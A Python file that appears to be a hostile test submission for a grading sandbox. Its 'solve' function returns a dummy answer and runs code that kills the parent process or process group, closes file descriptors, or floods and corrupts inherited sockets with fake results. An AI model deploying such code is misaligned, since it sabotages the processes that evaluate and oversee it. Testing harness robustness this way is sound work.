"""Ends, stops or confuses the process that asks: by signals, by the channel, by silence. Not to be passed.

Variants: parent, group, all_, close, shutdown, half, flood, eof
"""

import os
import signal
import socket

VARIANT = ""


def sockets():
    for number in range(3, 64):
        try:
            yield socket.socket(fileno=os.dup(number))
        except OSError:
            continue


def attack():
    try:
        if VARIANT == "parent":
            os.kill(os.getppid() or 1, signal.SIGTERM)
        elif VARIANT == "group":
            os.killpg(os.getpgrp(), signal.SIGCONT)
            os.killpg(os.getppid() or 1, signal.SIGTERM)
        elif VARIANT == "all_":
            for number in range(2, 50):
                if number != os.getpid() and os.getppid() in (0, 1):
                    os.kill(number, signal.SIGTERM)
    except OSError:
        pass
    if VARIANT in ("close", "eof"):
        os.closerange(3, 256)
    for one in sockets() if VARIANT in ("shutdown", "half", "flood") else ():
        try:
            if VARIANT == "shutdown":
                one.shutdown(socket.SHUT_RDWR)
            elif VARIANT == "half":
                one.send(b'{"value": [1, 2')
            else:
                one.setblocking(False)
                while True:
                    one.send(b'{"value": [1, 2, 3]}\n' * 1000)
        except OSError:
            continue


def solve(numbers):
    attack()
    return [0]


mean = solve
if VARIANT == "eof":
    attack()
